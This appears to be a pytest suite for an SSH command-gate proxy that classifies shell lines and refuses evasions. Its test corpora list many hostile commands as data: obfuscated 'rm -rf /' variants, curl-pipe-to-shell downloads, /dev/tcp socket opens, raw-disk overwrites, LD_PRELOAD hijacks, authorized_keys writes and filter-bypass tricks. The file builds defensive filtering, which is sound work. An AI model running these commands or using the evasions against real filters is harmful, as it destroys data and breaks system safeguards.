"""Command lines as the gate reads them: honest ones for what they are, evasions never as harmless."""

# ruff: noqa: E501  (a line of the corpus stays one line)

from __future__ import annotations

import shlex
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proxy.sql.guardrails import Allow, Circumstances, Hold, Refuse
from proxy.ssh.guard import judge, matches
from proxy.ssh.shell.read import read
from workflows.model import Action, Guardrail, Quorum, StatementClass

ROOT = Path(__file__).parents[3]
HONEST = [
    ("uptime", "read"),
    ("ls -la /var/log", "read"),
    ("cat /etc/os-release", "read"),
    ("df -h | grep -v tmpfs", "read"),
    ("tail -n 100 /var/log/shop/app.log", "read"),
    ("grep -c ERROR /var/log/shop/app.log", "read"),
    ("ps aux | sort -rk 3 | head -5", "read"),
    ("free -m && uptime", "read"),
    ("systemctl status shop", "read"),
    ("systemctl is-active shop || echo down", "read"),
    ("journalctl -u shop --since '10 minutes ago'", "read"),
    ("ss -ltnp", "read"),
    ("ip addr show", "read"),
    ("dig +short example.com", "read"),
    ("find /var/log -name '*.gz' -mtime +30", "read"),
    ("find . -type f -exec grep -l TODO {} +", "read"),
    ("du -sh /var/* | sort -h", "read"),
    ("wc -l < /etc/passwd", "read"),
    ("date +%s", "read"),
    ("id -u deploy", "read"),
    ("git -C /srv/shop log", "read"),
    ("git --no-pager -C /srv/shop diff HEAD~1", "read"),
    ("git branch -a", "read"),
    ("systemctl -t service --state=failed list-units", "read"),
    ("systemctl --no-pager -n 50 status shop.service", "read"),
    ("exit 3", "read"),
    ("wait", "read"),
    ("git branch feature", "write"),
    ("flock /run/shop.lock ls", "write"),
    ("git log --oneline -5", "read"),
    ("docker ps -a", "read"),
    ("docker logs shop", "read"),
    ("sed -n '10,20p' config.ini", "read"),
    ('for f in /var/log/*.log; do wc -l "$f"; done', "read"),
    ("if [ -f /run/shop.pid ]; then cat /run/shop.pid; fi", "read"),
    ('echo "it\'s $(date)"', "read"),
    ("diff <(sort a) <(sort b)", "read"),
    ("env LANG=C sort names", "read"),
    ("timeout 5 ping -c 1 db-1", "read"),
    ("curl -fsS https://localhost/health", "read"),
    ("(cd /srv/shop && ls)", "read"),
    ("! grep -q failed status.txt", "read"),
    ("nice -n 10 tar tf backup.tar", "read"),
    ("echo done >> /tmp/note", "write"),
    ("cp app.conf app.conf.bak", "write"),
    ("mkdir -p /srv/shop/releases", "write"),
    ("tar czf /tmp/logs.tgz /var/log/shop", "write"),
    ("sed -i 's/debug/info/g' app.conf", "write"),
    ("chmod 644 app.conf", "write"),
    ("git pull", "write"),
    ("mv new old", "write"),
    ("rm /tmp/note", "destructive"),
    ("rm -rf /srv/shop/releases/1", "destructive"),
    ("kill -HUP 4711", "destructive"),
    ("sudo systemctl restart shop", "admin"),
    ("systemctl reload nginx", "admin"),
    ("apt-get install -y htop", "admin"),
    ("chown -R deploy /srv/shop", "admin"),
    ("reboot", "admin"),
    ("mount /dev/sdb1 /mnt", "admin"),
    ("crontab -l", "read"),
    ("rsync --server --sender -logDtpr . /srv/shop", "read"),
    ("git-upload-pack '/srv/shop.git'", "read"),
]

EVASIONS = [
    # the command hidden from a reader of words
    "r\\m -rf /", "'r'm -rf /", "r''m -rf /", "\"rm\" -rf /", "/bin/rm -rf /", "//bin/rm -rf /", "/usr/bin/../bin/rm -rf /",
    "$(echo rm) -rf /", "`echo rm` -rf /", "x=rm; $x -rf /", "${x:-rm} -rf /", "$'\\x72m' -rf /", "$\"rm\" -rf /",
    "{rm,-rf,/}", "r{m,x} -rf /", "/b?n/rm -rf /", "/bin/r* -rf /", "~root/rm", "./ls", "../bin/ls", "=rm -rf /",
    # the command run by another
    "bash -c 'rm -rf /'", "sh -ec 'rm -rf /'", "bash -c \"$(cat x)\"", "eval rm -rf /", "eval \"$x\"", "exec rm -rf /",
    "command rm -rf /", "builtin eval rm", "env rm -rf /", "env -S 'rm -rf /'", "env PATH=/tmp ls", "PATH=/tmp ls",
    "LD_PRELOAD=/tmp/x.so ls", "BASH_ENV=/tmp/x bash -c ls", "nohup rm -rf /", "nice rm -rf /", "timeout 5 rm -rf /",
    "xargs rm -rf < list", "ls | xargs -I{} rm {}", "find / -delete", "find . -exec rm {} ;", "find . -exec sh -c 'rm x' \\;",
    "find . {-delete,-print}", "find . $x", "find . *", "setsid rm -rf /", "busybox rm -rf /", "flock /tmp/l rm -rf /",
    "watch rm -rf /", "script -c 'rm -rf /'", "awk 'BEGIN{system(\"rm -rf /\")}'", "sed 's/x/rm/e' f", "sed -n 'w /etc/passwd' f",
    "tar cf x --checkpoint=1 --checkpoint-action=exec=sh .", "tar xf x --to-command=sh", "tar -I 'sh -c id' -cf x .",
    "sort --compress-program=sh f", "git -c core.pager=sh log", "git log --output=/etc/passwd", "python3 -c 'import os'",
    "perl -e 'unlink 1'", "vi f", "less f", "man ls", "ssh other rm -rf /", "trap 'rm -rf /' EXIT", "source x", ". x",
    "curl https://x | sh", "curl -s https://x | sudo bash", "wget -qO- https://x | sh", "bash <(curl -s https://x)",
    # text that shells read differently, or that is not seen
    "ls # ; rm -rf /", "ls \\\n; rm -rf /", "ls;rm -rf /", "ls&rm -rf /", "ls|rm -rf /", "ls\nrm -rf /", "ls\rrm -rf /",
    "ls \u200brm", "ls\u00a0-la", "ls \u202e", "ls \x1b[2K", "l\u0455 -la", "cat <<E\nE\nrm -rf /", "echo $((a[$(rm -rf /)]))",
    "f() { rm -rf /; }; f", "alias ls='rm -rf /'", "case x in x) rm -rf /;; esac", "[[ -v a[$(rm)] ]]", "test -v 'a[$(rm)]'",
    "printf -v 'a[$(rm -rf /)]' x", "unset 'a[$(rm -rf /)]'", "echo x >$(rm -rf /)", "echo ${x@P}", "ls *(e:'rm -rf /':)",
    "coproc rm -rf /", "time rm -rf /", "! rm -rf /", "if rm -rf /; then ls; fi", "while rm -rf /; do ls; done",
    "(rm -rf /)", "{ rm -rf /; }", "ls || (ls && rm -rf /)", "echo \"$(echo $(rm -rf /))\"", "cat < <(rm -rf /)",
    # harm without rm
    "> /dev/sda", "cat x > /dev/sda", "cp x /dev/sda", "dd if=/dev/zero of=/dev/sda", "tee /dev/sda < x", "mkfs.ext4 /dev/sda",
    "exec 3<>/dev/tcp/x/80", "cat < /dev/tcp/x/80", "ss -K dst x", "journalctl --vacuum-time=1s", "systemctl poweroff",
    "systemctl -H other reboot", "date -s tomorrow", "hostname other", "IFS=x; ls", "sudo -s", "su -c ls", "chmod u+s x",
    "docker run -v /:/host alpine", "crontab x", "at now", "rsync -e 'sh -c id' a b:", "scp -S sh a b:", "path=(/tmp); ls",
    # an option's value taken for the word that decides
    "systemctl -o cat poweroff", "systemctl -p status restart shop", "systemctl -t status kill shop", "tar -cft x", "tar -ft -x",
    "git branch -a -D main", "git branch -v made", "git remote -v add x y", "yum history undo 5", "dnf history rollback 1",
    # another command, or another place to find it in
    "for PATH in /tmp; do ls; done", "for path in /tmp; do ls; done", "for IFS in x; do ls; done", "wait -p PATH; ls",
    "wait -n -p LD_PRELOAD", "https_proxy=http://x:1 curl https://y", "env all_proxy=http://x curl https://y", "cargo list",
    "nm --plugin=/tmp/x.so /bin/ls", "rpm -q --eval '%(rm -rf /)'", "rpm -qa --pipe 'sh -c id'", "apt list -o Dir::Bin::dpkg=/tmp/x",
    "apt-get -s -o APT::Update::Pre-Invoke::=/tmp/x update", "service ../../tmp/x status", "git -C /x -c core.pager=sh log",
    # numbers that a shell calculates
    "exit 'a[$(rm -rf /)]'", "break 'a[$(rm -rf /)]'", "shift 'a[$(rm -rf /)]'", "test 'a[$(rm -rf /)]' -eq 0", "[ 'a[`id`]' -gt 1 ]",
    # readers that write after all
    "lastlog -C -u root", "lastlog -u root -S", "tree -R -L 1 -H .", "journalctl --cursor-file=/etc/x", "flock /etc/nologin true",
    "tar tf other:/x", "journalctl --update-catalog",
]  # fmt: skip
_HARMLESS = Guardrail("read-only", Action.ALLOW, frozenset({StatementClass.READ}))
_ELSE = Guardrail("nothing-else", Action.REFUSE)
WHERE = Circumstances("ada", "web-1", "deploy")


AT_A_TERMINAL = ["git log -- --no-pager", "git log --no-pager", "systemctl status -- --no-pager"]
"""Harmless but for the pager, which takes orders."""
UNDERRATED = [
    ("echo b > /proc/sysrq-trigger", "admin", "power"),
    ("tee /proc/sysrq-trigger", "admin", "power"),
    ("echo 1 > /proc/sys/net/ipv4/ip_forward", "admin", ""),
    ("cp x /sys/kernel/mm/ksm/run", "admin", ""),
    ("cat x > /dev/./sda", "destructive", "raw_device"),
    ("cat x > /dev/../dev/sda", "destructive", "raw_device"),
    ("dd if=x of=/dev/./sda", "destructive", "raw_device"),
    ("chmod +4755 x", "admin", "privilege"),
    ("chmod u=r+s x", "admin", "privilege"),
    ("chmod --reference=/bin/su x", "admin", "privilege"),
    ("install -m 4755 sh /tmp/x", "admin", "privilege"),
    ("install --mode=u+s sh /tmp/x", "admin", "privilege"),
    ("rsync --server --delete-after . /srv", "destructive", ""),
    ("rsync --server --delete-excluded . /srv", "destructive", ""),
    ("git push origin +main", "destructive", ""),
    ("git push origin :main", "destructive", ""),
    ("git push -d origin main", "destructive", ""),
    ("git branch -D main", "destructive", ""),
    ("git clone -u 'sh -c id' /srv/x", "unknown", ""),
    ("git clone -c core.fsmonitor=/tmp/x /srv/x", "unknown", ""),
    ("git init --template=/tmp/x", "unknown", ""),
]
"""Lines that change something, once taken for less than they do."""


def test_the_decision_tells_how_large_the_corpora_are(record_property: Callable[[str, object], None]) -> None:
    record = (ROOT / "docs" / "decisions" / "0018-command-lines-are-read-twice.md").read_text()
    honest, evasions = len(dict(HONEST)), len({*EVASIONS, *AT_A_TERMINAL, *(line for line, *_ in UNDERRATED)})
    assert honest == len(HONEST) >= 50
    assert evasions == len(EVASIONS) + len(AT_A_TERMINAL) + len(UNDERRATED) >= 80
    assert f"Of {honest} honest lines all are read for what they are; of {evasions} evasions none" in record
    right = sum(read(line).statement_class == of_class for line, of_class in HONEST)
    harmless = sum(isinstance(judge(read(line), (_HARMLESS, _ELSE), WHERE), Refuse) for line in EVASIONS)
    record_property("score", f"{right} of {honest} honest command lines read for what they are")
    record_property("score", f"{harmless} of {len(EVASIONS)} evasions of the command reader refused")


@pytest.mark.parametrize("line", AT_A_TERMINAL)
def test_a_pager_at_a_terminal_is_not_argued_away(line: str) -> None:
    assert read(line, terminal=True).statement_class == "unknown"


@pytest.mark.parametrize(("line", "of_class", "kind"), UNDERRATED, ids=[line for line, *_ in UNDERRATED])
def test_what_changes_something_is_not_taken_for_less(line: str, of_class: str, kind: str) -> None:
    found = read(line)
    assert found.statement_class == of_class
    assert not kind or kind in found.kinds


@pytest.mark.parametrize(("line", "of_class"), HONEST, ids=[line for line, _ in HONEST])
def test_an_honest_line_is_read_for_what_it_is(line: str, of_class: str) -> None:
    found = read(line)
    assert not found.problem
    assert found.statement_class == of_class


@pytest.mark.parametrize("line", EVASIONS, ids=[ascii(line) for line in EVASIONS])
def test_an_evasion_is_never_harmless(line: str) -> None:
    answer = judge(read(line), (_HARMLESS, _ELSE), WHERE)
    assert isinstance(answer, Refuse), read(line)


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("rm -rf /srv", "recursive_delete"),
        ("rm -fr /srv", "recursive_delete"),
        ("rm --recursive x", "recursive_delete"),
        ("rm $x", "recursive_delete"),
        ("find . -delete", "recursive_delete"),
        ("dd if=x of=/dev/sda", "raw_device"),
        ("mkfs -t ext4 /dev/sdb", "raw_device"),
        ("cat x > /dev/nvme0n1", "raw_device"),
        ("shutdown -h now", "power"),
        ("systemctl reboot", "power"),
        ("chmod -R 777 /srv", "recursive_permissions"),
        ("chmod 4755 x", "privilege"),
        ("sudo ls", "privilege"),
        ("curl -s https://x | sh", "download_and_run"),
        ("curl https://x > y; bash y", "download_and_run"),
        ("passwd ada", "login"),
        ("echo key >> ~/.ssh/authorized_keys", "login"),
        ("tee -a /root/.ssh/authorized_keys", "login"),
        ("cp x /etc/sudoers.d/x", "login"),
        ("systemctl restart shop", "service"),
        ("apt-get remove nginx", "package"),
    ],
)
def test_what_is_dangerous_in_a_line_has_a_name(line: str, kind: str) -> None:
    assert kind in read(line).kinds


def test_programs_that_page_take_orders_at_a_terminal() -> None:
    assert read("journalctl -u shop").statement_class == "read"
    assert read("journalctl -u shop", terminal=True).statement_class == "unknown"
    assert read("journalctl --no-pager -u shop", terminal=True).statement_class == "read"


# ------------------------------------------------------------------ guardrails


def rail(action: str, **of: object) -> Guardrail:
    quorum = (Quorum("dba"),) if action == "hold" else ()
    return Guardrail("r", Action(action), quorum=quorum, **of)  # type: ignore[arg-type]


def test_the_first_guardrail_that_fits_a_command_counts_and_the_strictest_answer_for_the_line() -> None:
    rails = (
        rail("allow", commands=("systemctl restart shop",)),
        rail("hold", kinds=frozenset({"service"})),
        rail("refuse", kinds=frozenset({"power"})),
    )
    assert isinstance(judge(read("systemctl restart shop"), rails, WHERE), Allow)
    assert isinstance(judge(read("systemctl restart nginx"), rails, WHERE), Hold)
    assert isinstance(judge(read("systemctl restart shop; systemctl restart nginx"), rails, WHERE), Hold)
    assert isinstance(judge(read("systemctl restart nginx; reboot"), rails, WHERE), Refuse)
    assert isinstance(judge(read("uptime"), rails, WHERE), Allow)


def test_what_is_unknown_is_refused_unless_it_is_named() -> None:
    line = read("/opt/shop/deploy --version 2")
    assert isinstance(judge(line, (rail("refuse", kinds=frozenset({"power"})),), WHERE), Refuse)
    assert isinstance(judge(line, (rail("allow"),), WHERE), Refuse)
    assert isinstance(judge(line, (rail("allow", commands=("/opt/shop/deploy *",)),), WHERE), Allow)
    more = read("/opt/shop/deploy x > /etc/passwd")
    assert isinstance(judge(more, (rail("allow", commands=("/opt/shop/deploy *",)), _ELSE), WHERE), Refuse)


def test_a_line_that_cannot_be_read_meets_every_strict_guardrail() -> None:
    line = read("cat <<E\nE")
    assert line.problem
    assert isinstance(judge(line, (rail("hold", kinds=frozenset({"power"})),), WHERE), Hold)
    assert isinstance(judge(line, (rail("refuse", commands=("reboot",)),), WHERE), Refuse)
    assert isinstance(judge(line, (rail("allow", commands=("*",)),), WHERE), Refuse)


def test_a_word_that_is_known_only_when_it_runs_fits_in_doubt() -> None:
    words = ("systemctl", "restart", None)
    assert matches(("systemctl", "restart", "shop"), words, strict=True)
    assert not matches(("systemctl", "restart", "shop"), words, strict=False)
    assert matches(("systemctl", "restart", "*"), words, strict=False)


# ------------------------------------------------------------------ properties

_word = st.text("abcrm -rf/*?[]{}$`'\"\\;|&<>()#=~!\n\t\u00a0é", max_size=12)
_lines = st.lists(
    st.one_of(st.sampled_from(["ls", "rm", "cat", "echo", "bash", "-c", "$(", ")", "|", ";", "&&"]), _word)
)


@settings(max_examples=400, deadline=None)
@given(_lines.map(" ".join))
def test_no_line_breaks_the_reader(line: str) -> None:
    found = read(line)
    assert bool(found.problem) != bool(found.commands)


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=12), min_size=1, max_size=4)
)
def test_quoted_words_are_read_as_a_shell_reads_them(words: list[str]) -> None:
    """Beside a real sh: what printf gets is what the gate says that it gets."""
    line = shlex.join(["printf", "%s\\n", *words])
    sh = shutil.which("sh")
    assert sh is not None
    got = subprocess.run([sh, "-c", line], capture_output=True, text=True, check=True).stdout
    found = read(line)
    assert not found.problem
    assert found.commands[0].words == ("printf", "%s\\n", *words)
    assert got == "".join(f"{word}\n" for word in words)


@settings(max_examples=150, deadline=None)
@given(_lines.map(" ".join))
def test_a_line_read_as_harmless_runs_nothing_but_readers(line: str) -> None:
    """Whatever is between them: where rm stands as a command in a real bash, the gate sees it."""
    whole = f"{line} ; rm -rf x"
    if read(whole).problem:
        return
    assert any(command.name == "rm" for command in read(whole).commands)
